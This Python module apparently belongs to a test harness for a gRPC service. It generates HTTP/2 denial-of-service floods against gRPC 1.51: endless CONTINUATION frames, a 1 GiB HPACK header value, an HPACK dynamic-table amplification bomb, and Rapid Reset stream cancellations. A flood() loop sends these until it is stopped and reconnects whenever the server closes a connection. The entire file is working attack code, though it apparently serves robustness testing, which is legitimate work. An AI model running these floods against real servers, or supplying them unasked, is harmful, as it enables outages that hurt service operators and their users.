# SPDX-License-Identifier: Apache-2.0
"""Floods of HTTP/2 frames against which gRPC 1.51 has no defence
(docs/security.md). Each endless generator yields what to send next on a new
connection."""
import contextlib
import pathlib
import select
import struct
import sys

sys.path.append(str(pathlib.Path(__file__).resolve().parents[1] / "abuse"))
from http2 import (CANCEL, DATA, END_HEADERS, END_STREAM, HEADERS,  # noqa: E402
                   RST_STREAM, Connection, call_headers, frame, header_block,
                   prefixed)
from sampler_requests import SAMPLE, job, sample  # noqa: E402

CONTINUATION = 9
MAX_FRAME = 16 << 10
RESETS = 100  # calls that are sent at a time


def continuation():
    """One call whose headers never end."""
    yield frame(HEADERS, 0, 1, call_headers(SAMPLE))
    headers = header_block([(b"x", b"v" * 100)])
    rest = frame(CONTINUATION, 0, 1, MAX_FRAME // len(headers) * headers)
    while True:
        yield rest


def huge_value():
    """One header whose value of 1 GiB comes in many frames."""
    size = 1 << 30
    length = bytearray((127,))  # HPACK's number with a prefix of 7 bits
    size -= 127
    while size >= 128:
        length.append(size & 127 | 128)
        size >>= 7
    length.append(size)
    yield frame(HEADERS, 0, 1, call_headers(SAMPLE) + b"\0\1x" + bytes(length))
    rest = frame(CONTINUATION, 0, 1, bytes(MAX_FRAME))
    while True:
        yield rest


def hpack_bomb():
    """Calls whose headers name a large entry of the dynamic table thousands of
    times: a byte for 3.9 KB."""
    value = b"v" * 3900
    # 0x40: to be indexed; the entry is number 62 then.
    size = len(value) - 127
    entry = b"\x40\1x" + bytes((127, size & 127 | 128, size >> 7)) + value
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1,
                call_headers(SAMPLE) + entry)
    names = call_headers(SAMPLE)
    block = names + bytes((0x80 | 62,)) * (MAX_FRAME - len(names))
    stream = 3
    while True:
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
        stream += 2


def _resets(request):
    start = frame(HEADERS, END_HEADERS, 0, call_headers(SAMPLE))
    data = frame(DATA, END_STREAM, 0, prefixed(request)) if request else b""
    end = frame(RST_STREAM, 0, 0, struct.pack(">I", CANCEL))
    first = 1
    while True:
        yield b"".join(
            part[:5] + struct.pack(">I", stream) + part[9:]
            for stream in range(first, first + 2 * RESETS, 2)
            for part in (start, data, end) if part)
        first += 2 * RESETS


def rapid_reset():
    """Calls that are reset as soon as they are made."""
    return _resets(b"")


def rapid_reset_requests():
    """The same, with their whole requests."""
    return _resets(sample(job(split="train", fanouts=[10, 5], batch_size=256)))


def flood(frames, target, source, tls, stop):
    """Sends what `frames` makes until the event `stop`, on a new connection
    whenever the other side ends one. Returns bytes sent and the number of
    connections."""
    sent = connections = 0
    while not stop.is_set():
        with contextlib.suppress(OSError), Connection(
                target, source, patience=2.0, tls=tls) as connection:
            connections += 1
            for piece in frames():
                connection.send(piece)
                sent += len(piece)
                _discard(connection.socket)
                if stop.is_set():
                    break
    return sent, connections


def _discard(socket):
    """Reads what has come."""
    while socket.pending() or select.select([socket], [], [], 0)[0]:
        if not socket.recv(1 << 16):
            raise ConnectionError("the connection was ended")
